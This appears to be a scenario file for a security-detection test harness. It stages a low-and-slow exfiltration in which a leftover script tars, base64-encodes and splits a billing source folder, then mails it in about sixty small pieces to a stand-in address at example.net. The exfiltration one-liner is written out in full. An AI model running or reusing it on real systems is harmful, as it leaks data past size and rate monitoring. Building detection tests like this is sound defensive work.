# No message is large, none is frequent; the sum is.
title="An archive leaves in sixty small messages to one recipient over a day"
what="A script that a login of dev left behind encodes ~/src/billing and sends it in sixty messages of a few kilobytes, one at a time with pauses, by mail(1) to one address at example.net. Recorded quickly; times spread over a day by lib/shift_time.py."
host=ws3.example.org user=dev daemons="cron sshd"
shift_plan="before:1h slow:1d"

setup() {
  mkdir -p /home/dev/src/billing; head -c 180000 /dev/urandom > /home/dev/src/billing/core.bin
  cat > /home/dev/src/.sync <<'P'
tar -C "$HOME/src" -czf - billing | base64 -w 0 | fold -w 4000 | while read -r line; do printf '%s\n' "$line" | mail -s note storage@example.net; sleep 0.7; done
P
  chown -R dev: /home/dev/src
}
act() {
  phase before
  small_talk 3
  phase slow
  ssh_run dev 'setsid nohup sh src/.sync >/dev/null 2>&1 & sleep 0.5'
  local n
  for n in $(seq 1 52); do mail_in --from "office$n@example.net" --to clerk@example.org --subject "Note $n"; sleep 0.7; done
  wait_log_count 'to=<storage@example.net>.*status=sent' 55 30
}
truth() {
  exec_step start 'sh src/.sync' 'a script stays behind'
  exec_step pack 'tar -C /home/dev/src -czf' 'a folder is packed'
  exec_step send 'mail -s note storage@example.net' 'a piece leaves'
  mail_step sent 'to=<storage@example.net>.*status=sent' 'to the one recipient'
}
